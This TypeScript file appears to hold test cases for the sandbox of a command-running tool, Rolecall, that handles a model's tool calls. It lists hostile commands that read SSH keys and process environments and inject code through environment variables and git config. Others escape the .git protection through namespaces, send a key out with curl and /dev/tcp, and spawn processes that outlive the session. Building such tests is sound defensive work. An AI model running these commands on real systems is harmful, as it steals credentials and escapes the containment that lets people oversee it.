// biome-ignore-all lint/suspicious/noTemplateCurlyInString: shells are written like this.
import type { Harm } from './world.ts';

/** A definition with the arguments of a model and a workspace, made by somebody who means harm. */
export interface Hostile {
  readonly title: string;
  /** `{home}`, `{key}` and the like stand for what a `World` has. */
  readonly command: readonly [string, ...string[]];
  readonly files?: Readonly<Record<string, string>>;
  readonly env?: Readonly<Record<string, string>>;
  readonly cwd?: string;
  readonly stdin?: Readonly<Record<string, unknown>>;
  readonly read?: readonly string[];
  readonly write?: readonly string[];
  readonly timeoutSeconds?: number;
  /** What it does where nothing contains it. */
  readonly harm: Harm;
  /** A program that not every machine has. */
  readonly needs?: string;
  /** It does its harm only where the tests run as root. */
  readonly asRoot?: true;
}

const sh = (code: string): [string, ...string[]] => ['sh', '-c', code];
const python = (code: string): [string, ...string[]] => ['python3', '-c', code];
const stealing = '#!/bin/sh\ncat "{key}"\n';
/** A repository without `.git`, as it can be committed: `git -C` takes its word for what to start. */
const bareRepository = {
  'vendor/x/HEAD': 'ref: refs/heads/main\n',
  'vendor/x/objects/.keep': '',
  'vendor/x/refs/.keep': '',
  'vendor/x/config':
    '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ../x\n\tfsmonitor = "cat {key} >&2; false"\n',
};
const connect = (family: string, address: string) =>
  python(`import socket; s=socket.socket(socket.${family}); s.connect(${address}); s.send(b"hello")`);

export const hostile: readonly Hostile[] = [
  // Secrets by their paths.
  { title: 'a key by its path', command: ['cat', '{key}'], harm: 'reads' },
  { title: 'a key by HOME', command: sh('cat "$HOME/.ssh/id_rsa"'), harm: 'reads' },
  { title: 'the secret store of the editor', command: ['cat', '{store}'], harm: 'reads' },
  { title: 'the session of Rolecall', command: ['cat', '{session}'], harm: 'reads' },
  { title: 'another workspace', command: ['cat', '{other}'], harm: 'reads' },
  { title: 'another workspace, upwards', command: ['cat', '../other/secret.txt'], harm: 'reads' },
  { title: 'the whole home', command: ['grep', '-rh', 'canary', '{home}'], harm: 'reads' },
  { title: 'the home in an archive', command: sh('tar c "{home}" 2>/dev/null'), harm: 'reads' },
  { title: 'another language', command: python('print(open("{key}").read())'), harm: 'reads' },
  { title: 'a copy of a device', command: ['dd', 'if={key}', 'status=none'], harm: 'reads' },
  {
    title: 'a file of the workspace that was not declared',
    command: ['cat', '{workspace}/private.txt'],
    read: ['docs'],
    harm: 'reads',
  },
  {
    title: 'another project, as the installation of a program in it',
    command: ['{home}/code/team/theirs/bin/show'],
    files: {
      '../../code/team/theirs/bin/show': '#!/bin/sh\ncat "{home}/code/team/theirs/secret.txt"\n',
      '../../code/team/theirs/secret.txt': '{canary}',
    },
    harm: 'reads',
  },
  {
    title: 'the repository around the workspace, as the installation of a program in it',
    command: ['./tool'],
    files: {
      tool: '-> ../../code/team/whole/bin/show',
      '../../code/team/whole/bin/show': '#!/bin/sh\ncat "{home}/code/team/whole/secret.txt"\n',
      '../../code/team/whole/secret.txt': '{canary}',
    },
    harm: 'reads',
  },
  {
    title: 'the folder beside the declared one',
    command: ['cat', '../private.txt'],
    cwd: 'docs',
    read: ['docs'],
    harm: 'reads',
  },

  // Secrets through the workspace.
  {
    title: 'a link to the folder of keys',
    command: ['cat', 'notes/id_rsa'],
    files: { notes: '-> {home}/.ssh' },
    harm: 'reads',
  },
  { title: 'a link to a key', command: ['cat', 'notes.md'], files: { 'notes.md': '-> {key}' }, harm: 'reads' },
  {
    title: 'a relative link',
    command: ['cat', 'notes.md'],
    files: { 'notes.md': '-> ../../.ssh/id_rsa' },
    harm: 'reads',
  },
  {
    title: 'a link by way of a link',
    command: ['cat', 'a/id_rsa'],
    files: { a: '-> b', b: '-> ../../.ssh' },
    harm: 'reads',
  },
  {
    title: 'a declared folder that is a link',
    command: ['cat', 'docs2/id_rsa'],
    files: { docs2: '-> {home}/.ssh' },
    read: ['docs2'],
    harm: 'reads',
  },
  {
    title: 'a hard link made to a key',
    command: sh('ln "{key}" out/x && cat out/x'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'reads',
  },
  {
    title: 'a link made in what may be written',
    command: sh('ln -s "{key}" out/x && cat out/x'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'reads',
  },

  // Values and files that become code.
  { title: 'a file name that perl runs', command: ['perl', '-ne', 'print', 'cat "{key}"|'], harm: 'reads' },
  {
    title: 'a script with quotes in its name',
    command: sh('sh ./"run".sh'),
    files: { 'run.sh': stealing },
    harm: 'reads',
  },
  { title: 'a program of the workspace', command: ['./tool'], files: { tool: stealing }, harm: 'reads' },
  {
    title: 'a committed repository with core.fsmonitor',
    command: ['git', '-C', 'vendor/x', 'status'],
    files: bareRepository,
    harm: 'reads',
  },
  {
    title: 'PYTHONPATH in the workspace',
    command: python('1'),
    env: { PYTHONPATH: 'lib' },
    files: { 'lib/sitecustomize.py': 'print(open("{key}").read())' },
    harm: 'reads',
  },
  {
    title: 'HOME in the workspace',
    command: ['git', 'look'],
    env: { HOME: 'cfg' },
    files: { 'cfg/.gitconfig': '[alias]\n\tlook = !cat {key}\n' },
    harm: 'reads',
  },
  {
    title: 'a configuration by a variable',
    command: ['git', 'look'],
    env: { GIT_CONFIG_GLOBAL: 'cfg' },
    files: { cfg: '[alias]\n\tlook = !cat {key}\n' },
    harm: 'reads',
  },
  {
    title: 'BASH_ENV',
    command: ['bash', '-c', ':'],
    env: { BASH_ENV: './run.sh' },
    files: { 'run.sh': stealing },
    harm: 'reads',
  },
  {
    title: 'PERL5OPT',
    command: ['perl', '-e', '1'],
    env: { PERL5LIB: '.', PERL5OPT: '-MEvil' },
    files: { 'Evil.pm': 'system("cat {key}"); 1;' },
    harm: 'reads',
  },
  {
    title: 'NODE_OPTIONS',
    command: [process.execPath, '-e', '1'],
    env: { NODE_OPTIONS: '--require=./evil.cjs' },
    files: { 'evil.cjs': 'console.log(require("fs").readFileSync("{key}", "utf8"))' },
    harm: 'reads',
  },
  {
    title: 'a variable that the loader of every program reads',
    command: ['true'],
    env: { LD_DEBUG: 'libs', LD_DEBUG_OUTPUT: '{outside}/trace' },
    harm: 'writes',
  },
  {
    title: 'a Makefile',
    command: ['make', '-s', 'all'],
    files: { Makefile: 'all:\n\t@cat "{key}"\n' },
    harm: 'reads',
    needs: 'make',
  },
  {
    title: 'an assignment that make evaluates',
    command: ['make', '-s', 'X=$(shell cat {key} >&2)', 'all'],
    files: { Makefile: 'all:\n\t@echo $(X)\n' },
    harm: 'reads',
    needs: 'make',
  },
  { title: 'system() of awk', command: ['awk', 'BEGIN { system("cat {key}") }'], harm: 'reads' },
  { title: 'find -exec', command: ['find', '.', '-maxdepth', '0', '-exec', 'cat', '{key}', ';'], harm: 'reads' },
  { title: 'the e of sed', command: ['sed', '-n', '1e cat {key}', 'readme.md'], harm: 'reads' },
  {
    title: 'a checkpoint of tar',
    command: ['tar', 'cf', '/dev/null', '--checkpoint=1', '--checkpoint-action=exec=cat {key} >&2', 'docs'],
    harm: 'reads',
  },
  { title: 'env -S', command: ['env', '-S', 'cat {key}'], harm: 'reads' },
  { title: 'xargs', command: sh('echo "{key}" | xargs cat'), harm: 'reads' },
  { title: 'input that a shell runs', command: ['sh'], stdin: { x: '`cat {key}`' }, harm: 'reads' },
  { title: '.shell of sqlite3', command: ['sqlite3', ':memory:', '.shell cat {key}'], harm: 'reads', needs: 'sqlite3' },
  {
    title: 'a launcher: valgrind',
    command: ['valgrind', '-q', '--tool=none', './tool'],
    files: { tool: stealing },
    harm: 'reads',
    needs: 'valgrind',
  },
  { title: 'a launcher: gdb', command: ['gdb', '-q', '-batch', '-ex', 'shell cat {key}'], harm: 'reads', needs: 'gdb' },

  // Secrets through /proc and other processes.
  { title: '/proc/self/cwd', command: ['cat', '/proc/self/cwd/../other/secret.txt'], harm: 'reads' },
  { title: '/proc/self/root', command: ['cat', '/proc/self/root{key}'], harm: 'reads' },
  { title: 'the root of a process', command: ['cat', '/proc/{pid}/root{key}'], harm: 'reads', asRoot: true },
  { title: 'the environment of a process', command: sh('tr "\\0" "\\n" < /proc/{pid}/environ'), harm: 'reads' },
  {
    title: 'the environments of all processes',
    command: sh('cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"'),
    harm: 'reads',
  },
  { title: 'the folder of a process', command: ['cat', '/proc/{pid}/cwd/id_rsa'], harm: 'reads' },
  { title: 'an open file of a process', command: ['cat', '/proc/{pid}/fd/3'], harm: 'reads' },
  {
    title: 'the file system of another process',
    command: ['nsenter', '-t', '{pid}', '-m', 'cat', '{key}'],
    harm: 'reads',
    needs: 'nsenter',
    asRoot: true,
  },
  {
    title: 'a change of root',
    command: ['chroot', '/proc/{pid}/root', '/bin/cat', '{key}'],
    harm: 'reads',
    asRoot: true,
  },
  {
    title: 'a namespace of its own',
    command: sh('unshare -rm sh -c "umount -a; cat {key}"; cat {key}'),
    harm: 'reads',
  },
  {
    title: 'a list of processes',
    command: sh('cat /proc/[0-9]*/cmdline 2>/dev/null | tr "\\0" "\\n"'),
    harm: 'meddles',
  },
  { title: 'ps', command: ['ps', '-eww', '-o', 'args'], harm: 'meddles', needs: 'ps' },
  { title: 'a signal that ends a process', command: sh('kill -9 {pid}'), harm: 'meddles' },
  { title: 'a signal that stops a process', command: sh('kill -STOP {pid}'), harm: 'meddles' },
  { title: 'a signal by name', command: ['pkill', '-STOP', '-f', 'ready.*{mark}'], harm: 'meddles', needs: 'pkill' },
  {
    title: 'a debugger’s hold on a process',
    command: python('import ctypes; l=ctypes.CDLL(None); print("{mark}" if l.ptrace(16, {pid}, 0, 0) == 0 else "no")'),
    harm: 'meddles',
    asRoot: true,
  },
  {
    title: 'the priority of a process',
    command: ['renice', '-n', '5', '-p', '{pid}'],
    harm: 'meddles',
    needs: 'renice',
  },
  {
    title: 'the memory of a process',
    command: python('print("{mark}" if open("/proc/{pid}/mem","rb",0) else "")'),
    harm: 'meddles',
    asRoot: true,
  },

  // Writing.
  { title: 'a file of the workspace that was not declared', command: sh('echo x > readme.md'), harm: 'writes' },
  { title: 'a new file of the workspace', command: ['touch', 'new.txt'], harm: 'writes' },
  { title: 'a file that is deleted', command: ['rm', 'readme.md'], harm: 'writes' },
  {
    title: 'a file beside the declared folder',
    command: sh('echo x > out/../readme.md'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'writes',
  },
  { title: 'a file of the home', command: sh('echo x >> "{home}/.bashrc"'), harm: 'writes' },
  { title: 'a file outside', command: ['cp', 'readme.md', '{outside}/x'], harm: 'writes' },
  { title: 'an option that names an output', command: ['sort', '-o', '{outside}/x', 'readme.md'], harm: 'writes' },
  {
    title: 'a link out of the declared folder',
    command: sh('echo x > out/away/x'),
    files: { 'out/away': '-> {outside}' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'a declared folder that leads out',
    command: sh('echo x > out/x'),
    files: { out: '-> {outside}' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'a declared folder that leads to .git',
    command: sh('echo x > out/x'),
    files: { out: '-> .git' },
    write: ['out'],
    harm: 'writes',
  },
  { title: 'a hook of git', command: sh('echo "touch x" > .git/hooks/pre-commit'), write: ['.'], harm: 'writes' },
  {
    title: 'the configuration of git',
    command: ['git', 'config', 'core.fsmonitor', 'touch x'],
    write: ['.'],
    harm: 'writes',
  },
  {
    title: 'a .git in place of the one there is',
    command: sh('mv .git old; mkdir .git; echo x > .git/config'),
    write: ['.'],
    harm: 'writes',
  },
  {
    title: 'a repository within, whose folder is moved away',
    command: sh('mv sub old; mkdir -p sub/.git; echo x > sub/.git/config'),
    files: { 'sub/.git/config': '' },
    write: ['.'],
    harm: 'writes',
  },
  {
    title: 'a folder that is moved away with a declared one in it',
    command: sh('mv sub old; mkdir -p sub/out/.git; echo x > sub/out/.git/config'),
    files: { 'sub/out/.keep': '' },
    write: ['.', 'sub/out'],
    harm: 'writes',
  },
  {
    title: 'a repository in a folder that cannot be read',
    command: sh('mkdir -p hid/.git; echo x > hid/.git/config; chmod 0311 hid'),
    write: ['.'],
    harm: 'writes',
  },
  {
    title: 'a repository in a folder that cannot be written',
    command: sh('mkdir -p out/a/.git; echo x > out/a/.git/config; chmod 0555 out/a; chmod 0 out'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'where a link named .vscode leads',
    command: sh('echo "{}" > shared/tasks.json'),
    files: { 'shared/.keep': '', 'sub/.vscode': '-> ../shared' },
    write: ['shared'],
    harm: 'writes',
  },
  {
    title: 'the repository of a worktree',
    command: sh('echo x > bare/config'),
    files: { 'tree/.git': 'gitdir: ../bare/worktrees/tree\n', 'bare/worktrees/tree/commondir': '../..\n' },
    write: ['bare'],
    harm: 'writes',
  },
  {
    title: 'a program that others run as its owner',
    command: sh('cp /bin/true out/x; chmod 6755 out/x'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'a FIFO that others wait at',
    command: ['mkfifo', 'out/x'],
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'a socket that others connect to',
    command: python('import socket; socket.socket(socket.AF_UNIX).bind("out/x")'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'writes',
  },
  {
    title: 'a new repository within',
    command: sh('mkdir -p deep/er/.git; echo x > deep/er/.git/config'),
    write: ['.'],
    harm: 'writes',
  },
  {
    title: 'a new repository at the top of a declared folder',
    command: sh('mkdir -p out/.git; echo x > out/.git/config'),
    write: ['out'],
    harm: 'writes',
  },
  { title: 'tasks of the editor', command: sh('echo "{}" > .vscode/tasks.json'), write: ['.'], harm: 'writes' },
  { title: 'the tool file', command: sh('echo "{}" > .vscode/rolecall.tools.json'), write: ['.'], harm: 'writes' },
  {
    title: 'what protects .git, unmounted',
    command: sh('umount .git; mount -o remount,rw .git; unshare -rm umount .git; echo x > .git/config'),
    write: ['.'],
    harm: 'writes',
  },
  {
    // In a mount namespace without it, what protects .git can be moved: into a folder that was mounted once more before.
    title: 'what protects .git, moved by a user namespace of its own',
    command: python(
      [
        'import ctypes, os',
        'try: open(".git/config", "w").write("x")',
        'except OSError:',
        '  l = ctypes.CDLL(None); o = os.open; os.mkdir("x"); top = o(".", 0)',
        '  l.unshare(0x10020000); l.mount(None, b"/", None, 0x44000, None); l.mount(b"x", b"/usr/share", None, 0x1000, None)',
        '  again = o("/usr/share", 0); l.mount(b"/usr", b"/usr", None, 0x5000, None); os.chdir("/usr")',
        '  l.pivot_root(b".", b"lib"); os.chdir("/"); l.umount2(b"/lib", 2)',
        '  os.rename(".git", "x/git", src_dir_fd=top, dst_dir_fd=top)',
        '  os.write(o("git/config", os.O_WRONLY, dir_fd=again), b"x")',
        '  os.rename("x/git", ".git", src_dir_fd=top, dst_dir_fd=top)',
      ].join('\n'),
    ),
    write: ['.'],
    harm: 'writes',
  },
  { title: 'a file in /tmp', command: ['touch', '/tmp/{mark}'], harm: 'writes' },
  { title: 'a file in /var/tmp', command: ['touch', '/var/tmp/{mark}'], harm: 'writes' },
  { title: 'shared memory', command: sh('echo x > /dev/shm/{mark}'), harm: 'writes' },
  {
    title: 'a disk that is filled',
    command: ['dd', 'if=/dev/zero', 'of={outside}/big', 'bs=1M', 'count=4', 'status=none'],
    harm: 'writes',
  },
  {
    title: 'a setting of the kernel',
    command: sh('v=$(cat /proc/sys/vm/swappiness); echo $v > /proc/sys/vm/swappiness && echo {mark}'),
    harm: 'meddles',
    asRoot: true,
  },
  {
    title: 'a device',
    command: sh('mknod out/disk c 1 1 && echo {mark}'),
    files: { 'out/.keep': '' },
    write: ['out'],
    harm: 'meddles',
    asRoot: true,
  },

  // Talking.
  { title: 'a service on this machine', command: connect('AF_INET', '("127.0.0.1",{port})'), harm: 'reaches' },
  { title: 'a service by its name', command: connect('AF_INET', '("localhost",{port})'), harm: 'reaches' },
  { title: 'a service over IPv6', command: connect('AF_INET6', '("::1",{port})'), harm: 'reaches' },
  {
    title: 'a datagram',
    command: python('import socket; socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b"x",("127.0.0.1",{udp}))'),
    harm: 'reaches',
  },
  { title: 'the network of a shell', command: ['bash', '-c', 'echo x > /dev/tcp/127.0.0.1/{port}'], harm: 'reaches' },
  {
    title: 'a file that curl sends',
    command: ['curl', '-s', '-m', '1', '-d', '@{key}', 'http://127.0.0.1:{port}'],
    harm: 'reaches',
    needs: 'curl',
  },
  { title: 'the socket of an agent', command: connect('AF_UNIX', '"{agent}"'), harm: 'reaches' },
  {
    title: 'an agent by its variable',
    command: python('import os,socket; s=socket.socket(socket.AF_UNIX); s.connect(os.environ["SSH_AUTH_SOCK"])'),
    env: { SSH_AUTH_SOCK: '{agent}' },
    harm: 'reaches',
  },
  { title: 'an abstract socket', command: connect('AF_UNIX', '"\\0{abstract}"'), harm: 'reaches' },
  {
    title: 'the network of another process',
    command: ['nsenter', '-t', '{pid}', '-n', 'bash', '-c', 'echo x > /dev/tcp/127.0.0.1/{port}'],
    harm: 'reaches',
    needs: 'nsenter',
    asRoot: true,
  },

  // Staying.
  {
    title: 'a session of its own',
    command: sh('setsid -w sh -c "sleep {sleep} >/dev/null 2>&1 &"'),
    harm: 'outlives',
  },
  {
    title: 'a session of its own that keeps the output',
    command: sh('setsid -w sh -c "sleep {sleep} &"'),
    harm: 'outlives',
  },
  {
    title: 'a child of a child',
    command: python(
      [
        'import os',
        'r, w = os.pipe()',
        'if os.fork() == 0:',
        '  os.setsid()',
        '  if os.fork() == 0: os.execvp("sleep", ["sleep", "{sleep}"])',
        '  os._exit(0)',
        'os.close(w)',
        'os.read(r, 1)',
      ].join('\n'),
    ),
    harm: 'outlives',
  },
  {
    title: 'a child that hears no signal',
    command: sh('trap "" TERM HUP INT; setsid -w sh -c "sleep {sleep} >/dev/null 2>&1 &"'),
    harm: 'outlives',
  },
  {
    title: 'more children than end at once',
    command: sh('setsid -w sh -c "for each in $(seq -s \' \' 60); do sleep {sleep} >/dev/null 2>&1 & done"'),
    harm: 'outlives',
  },
  {
    title: 'a child when the time is over',
    command: sh('setsid -w sh -c "sleep {sleep} >/dev/null 2>&1 &"; sleep 60'),
    timeoutSeconds: 1,
    harm: 'outlives',
  },
];
